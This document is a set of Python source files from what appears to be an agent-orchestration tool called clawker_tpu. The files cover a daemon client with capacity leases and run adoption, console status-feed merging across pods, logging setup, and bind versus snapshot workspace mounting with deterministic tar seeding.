    # Capacity leases + run adoption (docs/federation.md): the router
    # side of the lease protocol and cross-pod migration.

    def lease_acquire(self, *, tenant: str = "", tokens: int = 0,
                      ttl_s: float = 0.0) -> dict:
        """Acquire a bounded block of launch credits from this pod's
        admission controller (0 = the pod's configured defaults).
        Returns the lease doc; ``tokens`` may come back clamped (or 0
        with ``retry_after_s`` when the pod's credit pool is out)."""
        return self._call({"type": "lease_acquire", "tenant": tenant,
                           "tokens": tokens, "ttl_s": ttl_s})

    def lease_renew(self, lease_id: str) -> dict:
        """Refresh a lease's TTL and credit block.  Raises
        :class:`LoopdError` when the lease already lapsed -- the
        caller must re-acquire."""
        return self._call({"type": "lease_renew", "lease": lease_id})

    def lease_release(self, lease_id: str) -> dict:
        return self._call({"type": "lease_release", "lease": lease_id})

    def adopt_run(self, run_ref: str, *, orphan_grace_s: float | None = None,
                  keep: bool = False, stream: bool = False) -> dict:
        """Ask this pod to adopt a dead pod's journaled run (replay +
        resume under its own admission; cross-pod migration).  With
        ``stream`` the connection then carries the adopted run's event
        frames via :meth:`events`."""
        msg: dict = {"type": "adopt_run", "run": run_ref, "keep": keep,
                     "stream": stream}
        if orphan_grace_s is not None:
            msg["orphan_grace_s"] = orphan_grace_s
        return self._call(msg)

    def submit_run(self, spec_doc: dict, *, keep: bool = False,
                   stream: bool = True, tp: str = "",
                   clock_offset_s: float = 0.0) -> dict:
        """Submit a loop run; returns the ack (``run`` id, tenant,
        agent names).  With ``stream`` the connection then carries the
        run's event frames -- consume them via :meth:`events`.

        ``tp`` / ``clock_offset_s`` are the federation router's trace
        propagation fields (docs/tracing.md): its submit span's
        traceparent and its cumulative clock-offset estimate for this
        pod, riding the frame the submit already pays for."""
        msg: dict = {"type": "submit_run", "spec": spec_doc,
                     "keep": keep, "stream": stream}
        if tp:
            msg["tp"] = tp
        if clock_offset_s:
            msg["clock_offset_s"] = round(clock_offset_s, 6)
        return self._call(msg)

    def attach(self, run_ref: str) -> dict:
        """Attach to a hosted run (id or unambiguous prefix); returns
        the snapshot ack and switches this connection to streaming."""
        return self._call({"type": "attach", "run": run_ref})

    def stop_run(self, run_ref: str) -> dict:
        return self._call({"type": "stop_run", "run": run_ref})

    def shutdown(self) -> dict:
        """Ask the daemon to drain every hosted run and exit."""
        return self._call({"type": "shutdown"})

    # ----------------------------------------------------------- streaming

    def events(self):
        """Yield event frames after ``submit_run(stream=True)`` /
        ``attach``, ending after the ``run_done`` frame.  Raises
        :class:`~clawker_tpu.agentd.protocol.ConnectionClosed` when the
        daemon (or a concurrent :meth:`detach`) drops the stream."""
        self._sock.settimeout(None)
        while True:
            frame = protocol.read_msg(self._sock)
            yield frame
            if frame.get("type") == "run_done":
                return

    def detach(self) -> None:
        """Leave the stream WITHOUT stopping the run: best-effort
        detach frame, then shut the socket down so a reader blocked in
        :meth:`events` wakes immediately (the Ctrl-C path runs this
        from the signal handler)."""
        if self._detach_sent:
            return
        self._detach_sent = True
        try:
            protocol.write_msg(self._sock, {"type": "detach"})
        except (OSError, ClawkerError):
            pass
        try:
            self._sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

    # ----------------------------------------------------------- lifecycle

    def close(self) -> None:
        try:
            self._sock.close()
        except OSError:
            pass

    def __enter__(self) -> "LoopdClient":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def discover(cfg, *, sock_path: Path | None = None,
             require_project: str | None = None) -> LoopdClient | None:
    """A connected client when a daemon is discoverable, else None.

    ``None`` on: settings ``loopd.enable`` off, no socket file, nothing
    answering (stale socket from a SIGKILLed daemon), a handshake
    error, or -- when ``require_project`` is given -- a daemon serving
    a DIFFERENT project (container names and labels key on the project,
    so submitting across projects would run the wrong workload).
    """
    if not cfg.settings.loopd.enable:
        return None
    path = sock_path if sock_path is not None else socket_path(cfg)
    if not path.exists():
        return None
    try:
        client = LoopdClient(path, timeout=DISCOVER_TIMEOUT_S)
    except ClawkerError:
        return None
    try:
        client.hello()
    except (ClawkerError, OSError):
        client.close()
        return None
    if require_project is not None:
        served = client.daemon_project()
        if served and served != require_project:
            client.close()
            return None
    return client


def discover_all(cfg, *, require_project: str | None = None
                 ) -> list[LoopdClient]:
    """EVERY project-matching daemon endpoint, one connected client per
    pod: the canonical single-pod socket first, then each settings
    ``federation.pods`` entry (docs/federation.md).  Duplicate paths
    collapse; dead/foreign sockets are skipped exactly as
    :func:`discover` skips them.  With no federation configured this is
    ``[discover(cfg)]``-or-``[]`` -- the single-pod behavior unchanged."""
    if not cfg.settings.loopd.enable:
        return []
    seen: set[str] = set()
    clients: list[LoopdClient] = []
    candidates = [socket_path(cfg)]
    candidates += [Path(p) for p in cfg.settings.federation.pods]
    for path in candidates:
        key = str(path)
        if key in seen:
            continue
        seen.add(key)
        client = discover(cfg, sock_path=path,
                          require_project=require_project)
        if client is not None:
            clients.append(client)
    return clients
