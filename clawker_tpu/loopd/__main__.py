"""``python -m clawker_tpu.loopd``: run the loop-supervisor daemon.

Spawned detached by ``clawker loopd start`` (or ``loop`` autostart);
loads config from its working directory -- the daemon is
project-scoped -- builds the runtime driver from settings, serves the
control socket until SIGTERM/SIGINT, then drains every hosted run with
a durable ``shutdown`` journal record so ``clawker loop --resume``
picks them up.
"""

from __future__ import annotations

import os
import signal
import sys

from .. import logsetup
from ..config import load_config
from ..engine.drivers import get_driver
from .server import LoopdServer


def main() -> int:
    logsetup.setup(os.environ.get("CLAWKER_TPU_LOOPD_LOG", "info"))
    cfg = load_config()
    driver = get_driver(cfg.settings,
                        override=os.environ.get("CLAWKER_TPU_DRIVER", ""))
    server = LoopdServer(cfg, driver)

    def _term(signum, frame):
        server.stop()

    signal.signal(signal.SIGTERM, _term)
    signal.signal(signal.SIGINT, _term)
    server.start()
    server.serve_forever()
    return 0


if __name__ == "__main__":
    sys.exit(main())
