"""The console feed: ONE schema over the loopd status RPC.

``clawker fleet console`` (the live multi-run TUI), ``clawker loopd
status --format json`` (scripts), and the repaint-budget tests all read
the same normalized document, built here from a raw status RPC reply --
so a field the console renders is by construction a field scripts can
select on, and the two can never drift (docs/fleet-console.md#feed).

Normalizations over the raw RPC doc:

- every hosted run gets uniform ``agents`` rows (``agent``, ``worker``,
  ``status``, ``iteration``, ``exits`` as a comma string,
  ``anomaly_z``) with the daemon sentinel's latest per-agent z merged
  in -- the RPC carries sentinel rows separately because the sentinel
  outlives any one run;
- per-run ``events_dropped`` (the run's slice of
  ``loopd_events_dropped_total``) always present, 0 when nothing
  dropped;
- admission/health/workerd/warm-pool/shipper blocks pass through under
  stable keys with absent sections as empty containers, so consumers
  never need ``.get`` chains.
"""

from __future__ import annotations


def _agent_rows(run: dict, anom: dict[str, float]) -> list[dict]:
    rows = []
    for a in run.get("agents") or []:
        agent = str(a.get("agent", ""))
        z = a.get("anomaly_z")
        if z is None:
            z = anom.get(agent)
        rows.append({
            "agent": agent,
            "worker": str(a.get("worker", "")),
            "status": str(a.get("status", "")),
            "iteration": int(a.get("iteration", 0)),
            "exits": ",".join(map(str, a.get("exit_codes") or [])) or "-",
            "anomaly_z": (round(float(z), 2) if z is not None else None),
        })
    return rows


def console_feed(doc: dict) -> dict:
    """Raw loopd status RPC reply -> the normalized console feed."""
    doc = doc or {}
    sentinel = doc.get("sentinel") or {"enabled": False}
    anom: dict[str, float] = {}
    for r in sentinel.get("rows") or []:
        agent = str(r.get("agent", ""))
        try:
            z = float(r.get("latest_z", 0.0))
        except (TypeError, ValueError):
            continue
        if agent and (agent not in anom or z > anom[agent]):
            anom[agent] = z
    pod = str(doc.get("pod") or "")
    runs = []
    for r in doc.get("runs") or []:
        runs.append({
            "run": str(r.get("run", "")),
            "state": str(r.get("state", "")),
            # the hosting pod, stamped from the daemon's status doc so a
            # multi-pod merge (merge_feeds) keeps rows attributable
            "pod": str(r.get("pod") or pod),
            "tenant": str(r.get("tenant", "")),
            "client": str(r.get("client", "")),
            "parallel": int(r.get("parallel", 0)),
            "iterations": int(r.get("iterations", 0)),
            "placement": str(r.get("placement", "")),
            "subscribers": int(r.get("subscribers", 0)),
            "events_dropped": int(r.get("events_dropped", 0)),
            **({"ok": r.get("ok")} if "ok" in r else {}),
            "agents": _agent_rows(r, anom),
        })
    admission = doc.get("admission") or {}
    return {
        "pid": doc.get("pid"),
        "pod": pod,
        "project": str(doc.get("project") or ""),
        "uptime_s": float(doc.get("uptime_s") or 0.0),
        "runs": runs,
        "workers": admission.get("workers") or {},
        "tenants": admission.get("tenants") or {},
        "health": doc.get("health") or [],
        "workerd": doc.get("workerd") or {},
        "warm_pools": doc.get("warm_pools") or {},
        "sentinel": sentinel,
        "shipper": doc.get("shipper") or {"enabled": False},
        "events_dropped_total": int(doc.get("events_dropped_total", 0)),
    }


def merge_feeds(feeds: list[dict]) -> dict:
    """N pods' normalized console feeds -> ONE cross-pod feed
    (docs/federation.md#console).

    The console and ``--format json`` consumers keep reading the exact
    single-pod schema; the merge adds only a top-level ``pods`` list
    (pod names, feed order) that the TUI keys its POD column off.  Run
    rows concatenate in feed order (each row already carries its
    ``pod``); worker-keyed sections prefix keys with ``pod/`` so two
    pods' ``fake-0`` never alias; tenant rows SUM across pods -- the
    global view of a tenant the router's WFQ is balancing.  A
    single-element list returns that feed unchanged (minus ``pods``):
    the single-pod console is byte-identical to before."""
    if not feeds:
        return console_feed({})
    if len(feeds) == 1:
        return feeds[0]
    pods = []
    for i, f in enumerate(feeds):
        pods.append(str(f.get("pod") or "") or f"pod{i}")
    runs: list[dict] = []
    workers: dict = {}
    workerd: dict = {}
    health: list[dict] = []
    tenants: dict[str, dict] = {}
    warm_pools: dict = {}
    sentinel_rows: list[dict] = []
    sentinel_on = False
    shipper = {"enabled": False}
    dropped = 0
    for pod, f in zip(pods, feeds):
        for r in f.get("runs") or []:
            row = dict(r)
            row["pod"] = str(row.get("pod") or "") or pod
            runs.append(row)
        for wid, w in (f.get("workers") or {}).items():
            workers[f"{pod}/{wid}"] = w
        for wid, w in (f.get("workerd") or {}).items():
            workerd[f"{pod}/{wid}"] = w
        for h in f.get("health") or []:
            row = dict(h)
            row["worker"] = f"{pod}/{h.get('worker', '')}"
            health.append(row)
        for name, t in (f.get("tenants") or {}).items():
            agg = tenants.setdefault(name, {
                "weight": t.get("weight", 1.0), "inflight": 0,
                "queued": 0, "dispatched": 0})
            for k in ("inflight", "queued", "dispatched"):
                agg[k] += int(t.get(k, 0))
        warm_pools.update(f.get("warm_pools") or {})
        sent = f.get("sentinel") or {}
        sentinel_on = sentinel_on or bool(sent.get("enabled"))
        sentinel_rows += list(sent.get("rows") or [])
        if not shipper.get("enabled") and (f.get("shipper") or {}).get(
                "enabled"):
            shipper = f["shipper"]
        dropped += int(f.get("events_dropped_total", 0))
    return {
        "pid": feeds[0].get("pid"),
        "pod": "",
        "pods": pods,
        "project": next((str(f.get("project") or "") for f in feeds
                         if f.get("project")), ""),
        "uptime_s": max(float(f.get("uptime_s") or 0.0) for f in feeds),
        "runs": runs,
        "workers": workers,
        "tenants": tenants,
        "health": health,
        "workerd": workerd,
        "warm_pools": warm_pools,
        "sentinel": {"enabled": sentinel_on, "rows": sentinel_rows},
        "shipper": shipper,
        "events_dropped_total": dropped,
    }
