"""The console feed: ONE schema over the loopd status RPC.

``clawker fleet console`` (the live multi-run TUI), ``clawker loopd
status --format json`` (scripts), and the repaint-budget tests all read
the same normalized document, built here from a raw status RPC reply --
so a field the console renders is by construction a field scripts can
select on, and the two can never drift (docs/fleet-console.md#feed).

Normalizations over the raw RPC doc:

- every hosted run gets uniform ``agents`` rows (``agent``, ``worker``,
  ``status``, ``iteration``, ``exits`` as a comma string,
  ``anomaly_z``) with the daemon sentinel's latest per-agent z merged
  in -- the RPC carries sentinel rows separately because the sentinel
  outlives any one run;
- per-run ``events_dropped`` (the run's slice of
  ``loopd_events_dropped_total``) always present, 0 when nothing
  dropped;
- admission/health/workerd/warm-pool/shipper blocks pass through under
  stable keys with absent sections as empty containers, so consumers
  never need ``.get`` chains.
"""

from __future__ import annotations


def _agent_rows(run: dict, anom: dict[str, float]) -> list[dict]:
    rows = []
    for a in run.get("agents") or []:
        agent = str(a.get("agent", ""))
        z = a.get("anomaly_z")
        if z is None:
            z = anom.get(agent)
        rows.append({
            "agent": agent,
            "worker": str(a.get("worker", "")),
            "status": str(a.get("status", "")),
            "iteration": int(a.get("iteration", 0)),
            "exits": ",".join(map(str, a.get("exit_codes") or [])) or "-",
            "anomaly_z": (round(float(z), 2) if z is not None else None),
        })
    return rows


def console_feed(doc: dict) -> dict:
    """Raw loopd status RPC reply -> the normalized console feed."""
    doc = doc or {}
    sentinel = doc.get("sentinel") or {"enabled": False}
    anom: dict[str, float] = {}
    for r in sentinel.get("rows") or []:
        agent = str(r.get("agent", ""))
        try:
            z = float(r.get("latest_z", 0.0))
        except (TypeError, ValueError):
            continue
        if agent and (agent not in anom or z > anom[agent]):
            anom[agent] = z
    runs = []
    for r in doc.get("runs") or []:
        runs.append({
            "run": str(r.get("run", "")),
            "state": str(r.get("state", "")),
            "tenant": str(r.get("tenant", "")),
            "client": str(r.get("client", "")),
            "parallel": int(r.get("parallel", 0)),
            "iterations": int(r.get("iterations", 0)),
            "placement": str(r.get("placement", "")),
            "subscribers": int(r.get("subscribers", 0)),
            "events_dropped": int(r.get("events_dropped", 0)),
            **({"ok": r.get("ok")} if "ok" in r else {}),
            "agents": _agent_rows(r, anom),
        })
    admission = doc.get("admission") or {}
    return {
        "pid": doc.get("pid"),
        "project": str(doc.get("project") or ""),
        "uptime_s": float(doc.get("uptime_s") or 0.0),
        "runs": runs,
        "workers": admission.get("workers") or {},
        "tenants": admission.get("tenants") or {},
        "health": doc.get("health") or [],
        "workerd": doc.get("workerd") or {},
        "warm_pools": doc.get("warm_pools") or {},
        "sentinel": sentinel,
        "shipper": doc.get("shipper") or {"enabled": False},
        "events_dropped_total": int(doc.get("events_dropped_total", 0)),
    }
