"""Structured logging: stderr + rotating file lane, optional OTLP lane later.

Parity reference: internal/logger (zerolog + lumberjack rotation + optional
OTLP, SURVEY.md 2.11).  Python build: stdlib logging with a JSON-lines file
handler under the XDG state dir.
"""

from __future__ import annotations

import json
import logging
import logging.handlers
import time
from pathlib import Path

_FORMAT = "%(asctime)s %(levelname)-5s %(name)s: %(message)s"


class JsonLinesFormatter(logging.Formatter):
    def format(self, record: logging.LogRecord) -> str:
        out = {
            "ts": round(record.created, 3),
            "level": record.levelname.lower(),
            "logger": record.name,
            "msg": record.getMessage(),
        }
        if record.exc_info and record.exc_info[0] is not None:
            out["exc"] = self.formatException(record.exc_info)
        extra = getattr(record, "fields", None)
        if isinstance(extra, dict):
            out.update(extra)
        return json.dumps(out, separators=(",", ":"))


def setup(level: str = "info", *, log_file: Path | None = None, stderr: bool = True) -> logging.Logger:
    root = logging.getLogger("clawker")
    root.setLevel(getattr(logging, level.upper(), logging.INFO))
    root.handlers.clear()
    if stderr:
        h = logging.StreamHandler()
        h.setFormatter(logging.Formatter(_FORMAT))
        root.addHandler(h)
    if log_file is not None:
        log_file.parent.mkdir(parents=True, exist_ok=True)
        fh = logging.handlers.RotatingFileHandler(
            log_file, maxBytes=10 * 1024 * 1024, backupCount=3
        )
        fh.setFormatter(JsonLinesFormatter())
        root.addHandler(fh)
    root.propagate = False
    return root


def get(name: str) -> logging.Logger:
    return logging.getLogger(f"clawker.{name}")
