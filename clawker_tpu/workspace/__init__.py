"""Workspace mounting strategies.

Parity reference: internal/workspace (SURVEY.md 2.10) -- Strategy interface
(strategy.go:17) with BindStrategy (live bind-mount) vs SnapshotStrategy
(volume copy = ephemeral); SetupMounts (setup.go:106) adds config/history
volumes and optional docker-socket mount.
"""

from .strategy import BindStrategy, SnapshotStrategy, WorkspaceMounts, setup_mounts

__all__ = ["BindStrategy", "SnapshotStrategy", "WorkspaceMounts", "setup_mounts"]
