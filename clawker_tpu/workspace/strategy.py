"""Bind vs snapshot workspace strategies."""

from __future__ import annotations

import io
import os
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts
from ..engine.api import Engine
from ..runtime.labels import volume_labels
from ..runtime.names import agent_volume_name


@dataclass
class WorkspaceMounts:
    """Result of mount setup: bind strings + volumes that were ensured."""

    binds: list[str] = field(default_factory=list)
    volumes: list[str] = field(default_factory=list)
    post_create: list["SnapshotSeed"] = field(default_factory=list)

    def seed(self, engine: Engine, container_id: str) -> None:
        """Run post-create seeding steps (snapshot copies)."""
        for s in self.post_create:
            s.run(engine, container_id)


@dataclass
class SnapshotSeed:
    """Copy a host tree into the container's workspace volume after create.

    On a tpu_vm worker there is no shared filesystem with the laptop, so
    snapshot seeding travels through put_archive (the same channel bootstrap
    material uses) rather than host bind mounts -- this is what makes
    snapshot mode the default for remote workers.
    """

    src: Path
    dst: str = consts.WORKSPACE_DIR

    def run(self, engine: Engine, container_id: str) -> None:
        engine.put_archive(container_id, self.dst, _tar_tree(self.src))


def _tar_tree(src: Path) -> bytes:
    """Tar the project tree, never descending into .git, symlinked dirs
    or foreign mounts.  A mount point inside the project (say a runtime's
    overlay that mirrors the whole host) would otherwise turn the seed
    walk into a filesystem-wide -- or cyclic -- traversal."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        def walk(d: Path, rel: str) -> None:
            for p in sorted(d.iterdir()):
                arc = f"{rel}/{p.name}" if rel else p.name
                if p.name == ".git" and p.is_dir():
                    continue
                if p.is_dir() and not p.is_symlink():
                    if os.path.ismount(p):
                        continue
                    tf.add(p, arcname=arc, recursive=False)
                    walk(p, arc)
                else:
                    tf.add(p, arcname=arc, recursive=False)

        walk(src, "")
    return buf.getvalue()


class BindStrategy:
    """Live bind-mount of the project root (local driver only)."""

    name = "bind"

    def mounts(
        self, engine: Engine, project: str, agent: str, project_root: Path
    ) -> WorkspaceMounts:
        m = WorkspaceMounts()
        m.binds.append(f"{project_root}:{consts.WORKSPACE_DIR}")
        return m


class SnapshotStrategy:
    """Ephemeral copy-on-create workspace in a named volume."""

    name = "snapshot"

    def mounts(
        self, engine: Engine, project: str, agent: str, project_root: Path
    ) -> WorkspaceMounts:
        m = WorkspaceMounts()
        vol = agent_volume_name(project, agent, "workspace")
        engine.ensure_volume(vol, labels=volume_labels(project, agent, "workspace"))
        m.volumes.append(vol)
        m.binds.append(f"{vol}:{consts.WORKSPACE_DIR}")
        if project_root.exists():
            m.post_create.append(SnapshotSeed(src=project_root))
        return m


def setup_mounts(
    engine: Engine,
    project: str,
    agent: str,
    project_root: Path,
    *,
    mode: str = "bind",
    extra_mounts: list[str] | None = None,
    worktree_git_dir: Path | None = None,
) -> WorkspaceMounts:
    """Full mount assembly (reference: workspace.SetupMounts setup.go:106).

    Adds the workspace (strategy-dependent), per-agent config + history
    volumes, optional extra mounts, and -- for linked git worktrees -- the
    main repo's git dir so the worktree's ``.git`` file resolves inside the
    container (reference: setup.go:288).
    """
    strategy = BindStrategy() if mode == "bind" else SnapshotStrategy()
    m = strategy.mounts(engine, project, agent, project_root)
    for purpose in ("config", "history"):
        vol = agent_volume_name(project, agent, purpose)
        engine.ensure_volume(vol, labels=volume_labels(project, agent, purpose))
        m.volumes.append(vol)
    m.binds.append(f"{agent_volume_name(project, agent, 'config')}:/home/agent/.config")
    m.binds.append(f"{agent_volume_name(project, agent, 'history')}:/home/agent/.history")
    if worktree_git_dir is not None:
        if mode != "bind":
            raise ValueError("worktree agents require bind workspace mode")
        m.binds.append(f"{worktree_git_dir}:{worktree_git_dir}:ro")
    for em in extra_mounts or []:
        m.binds.append(em)
    return m
