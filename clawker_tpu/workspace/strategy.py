"""Bind vs snapshot workspace strategies.

Snapshot seeding is content-addressed (docs/loop-worktrees.md#seed-cache):
:func:`_tar_tree` produces a *deterministic* tar -- normalized mtime/uid/
gid/mode, stable walk order -- so one project tree always digests to the
same sha256 (:func:`seed_digest`).  That stable digest is the ABI the
whole fan-out path keys on: the host-side TTL cache
(:func:`~clawker_tpu.runtime.orchestrate.workspace_seed_tar`) builds the
tar once per fan-out, the workerd seed store holds it once per *worker*,
and a 32-agent swarm on one repo pays one tree walk and one WAN transfer
per worker instead of 32 of each.
"""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts, telemetry
from ..engine.api import Engine
from ..runtime.labels import volume_labels
from ..runtime.names import agent_volume_name
from ..util import phases

_SEED_BYTES = telemetry.counter(
    "workspace_seed_bytes_total",
    "Workspace snapshot bytes shipped into agent containers",
    labels=("worker",))
_SEED_CACHE_HITS = telemetry.counter(
    "workspace_seed_cache_hits_total",
    "Workspace seeds served from the content-addressed tar cache")
_SEED_CACHE_MISSES = telemetry.counter(
    "workspace_seed_cache_misses_total",
    "Workspace seeds that paid the tree walk + tar build")


@dataclass
class WorkspaceMounts:
    """Result of mount setup: bind strings + volumes that were ensured."""

    binds: list[str] = field(default_factory=list)
    volumes: list[str] = field(default_factory=list)
    post_create: list["SnapshotSeed"] = field(default_factory=list)

    def seed(self, engine: Engine, container_id: str, *,
             tar: bytes | None = None, worker: str = "") -> None:
        """Run post-create seeding steps (snapshot copies).

        ``tar`` short-circuits the tree walk with pre-resolved seed
        bytes -- the workerd path hands the worker-local seed store's
        copy down here so the put_archive fans out from the worker's
        own engine socket with zero further WAN bytes."""
        for s in self.post_create:
            s.run(engine, container_id, tar=tar, worker=worker)


@dataclass
class SnapshotSeed:
    """Copy a host tree into the container's workspace volume after create.

    On a tpu_vm worker there is no shared filesystem with the laptop, so
    snapshot seeding travels through put_archive (the same channel bootstrap
    material uses) rather than host bind mounts -- this is what makes
    snapshot mode the default for remote workers.

    The seed bytes come from the content-addressed TTL cache
    (``runtime.orchestrate.workspace_seed_tar``): one fan-out builds the
    tar once and every subsequent create reuses it, instead of the
    historical walk-and-buffer-the-whole-tree per call.
    """

    src: Path
    dst: str = consts.WORKSPACE_DIR

    def run(self, engine: Engine, container_id: str, *,
            tar: bytes | None = None, worker: str = "") -> None:
        with phases.phase("workspace.seed"):
            if tar is None:
                from ..runtime.orchestrate import workspace_seed_tar

                _digest, tar = workspace_seed_tar(self.src)
            # analyze: allow(wal-before-mutation): seeding is an
            # idempotent content transfer into a container whose create
            # was already journaled write-ahead (REC_CREATED /
            # REC_SEED_TAR scheduler-side; workerd intents carry the
            # scheduler's WAL across the process boundary) -- this layer
            # has no journal handle by design (docs/loop-worktrees.md).
            engine.put_archive(container_id, self.dst, tar)
            _SEED_BYTES.labels(worker or "local").inc(len(tar))


def seed_digest(tar: bytes) -> str:
    """Content digest of a deterministic seed tar (the cache/store key).

    Stable across machines and rebuilds because :func:`_tar_tree`
    normalizes every non-content tar field -- two trees with identical
    bytes-on-disk always share one digest, which is what lets N git
    worktrees forked from one base collapse to a single cached seed."""
    return hashlib.sha256(tar).hexdigest()


def _norm_tarinfo(ti: tarfile.TarInfo) -> tarfile.TarInfo:
    """Normalize the non-content tar fields so the archive bytes are a
    pure function of the tree's contents: mtime/uid/gid/owner names
    zeroed, mode collapsed to 0o755 (dirs + executables) / 0o644
    (everything else).  Without this, each rebuild (or each worktree of
    the same base) digests differently and the content-addressed cache
    never hits."""
    ti.mtime = 0
    ti.uid = 0
    ti.gid = 0
    ti.uname = ""
    ti.gname = ""
    if ti.isdir() or (ti.mode & 0o100):
        ti.mode = 0o755
    else:
        ti.mode = 0o644
    return ti


def _tar_tree(src: Path) -> bytes:
    """Deterministically tar the project tree, never descending into
    .git, symlinked dirs or foreign mounts.  A mount point inside the
    project (say a runtime's overlay that mirrors the whole host) would
    otherwise turn the seed walk into a filesystem-wide -- or cyclic --
    traversal.  Entries are added in sorted order with normalized
    metadata (:func:`_norm_tarinfo`) so the output digests stably."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        def walk(d: Path, rel: str) -> None:
            for p in sorted(d.iterdir()):
                arc = f"{rel}/{p.name}" if rel else p.name
                if p.name == ".git" and p.is_dir():
                    continue
                if p.is_dir() and not p.is_symlink():
                    if os.path.ismount(p):
                        continue
                    tf.add(p, arcname=arc, recursive=False,
                           filter=_norm_tarinfo)
                    walk(p, arc)
                else:
                    tf.add(p, arcname=arc, recursive=False,
                           filter=_norm_tarinfo)

        walk(src, "")
    return buf.getvalue()


class BindStrategy:
    """Live bind-mount of the project root (local driver only)."""

    name = "bind"

    def mounts(
        self, engine: Engine, project: str, agent: str, project_root: Path
    ) -> WorkspaceMounts:
        m = WorkspaceMounts()
        m.binds.append(f"{project_root}:{consts.WORKSPACE_DIR}")
        return m


class SnapshotStrategy:
    """Ephemeral copy-on-create workspace in a named volume."""

    name = "snapshot"

    def mounts(
        self, engine: Engine, project: str, agent: str, project_root: Path
    ) -> WorkspaceMounts:
        m = WorkspaceMounts()
        vol = agent_volume_name(project, agent, "workspace")
        engine.ensure_volume(vol, labels=volume_labels(project, agent, "workspace"))
        m.volumes.append(vol)
        m.binds.append(f"{vol}:{consts.WORKSPACE_DIR}")
        if project_root.exists():
            m.post_create.append(SnapshotSeed(src=project_root))
        return m


def setup_mounts(
    engine: Engine,
    project: str,
    agent: str,
    project_root: Path,
    *,
    mode: str = "bind",
    extra_mounts: list[str] | None = None,
    worktree_git_dir: Path | None = None,
) -> WorkspaceMounts:
    """Full mount assembly (reference: workspace.SetupMounts setup.go:106).

    Adds the workspace (strategy-dependent), per-agent config + history
    volumes, optional extra mounts, and -- for linked git worktrees -- the
    main repo's git dir.  In bind mode the git dir mounts read-only so the
    worktree's ``.git`` file resolves inside the container (reference:
    setup.go:288); in snapshot mode the worktree's *content* travels via
    the content-addressed seed instead (the container sees a plain tree,
    branch identity stays host-side; docs/loop-worktrees.md).
    """
    strategy = BindStrategy() if mode == "bind" else SnapshotStrategy()
    m = strategy.mounts(engine, project, agent, project_root)
    for purpose in ("config", "history"):
        vol = agent_volume_name(project, agent, purpose)
        engine.ensure_volume(vol, labels=volume_labels(project, agent, purpose))
        m.volumes.append(vol)
    m.binds.append(f"{agent_volume_name(project, agent, 'config')}:/home/agent/.config")
    m.binds.append(f"{agent_volume_name(project, agent, 'history')}:/home/agent/.history")
    if worktree_git_dir is not None:
        if mode == "bind":
            m.binds.append(f"{worktree_git_dir}:{worktree_git_dir}:ro")
        # snapshot worktrees: no git-dir bind -- the seed is the content
    for em in extra_mounts or []:
        m.binds.append(em)
    return m
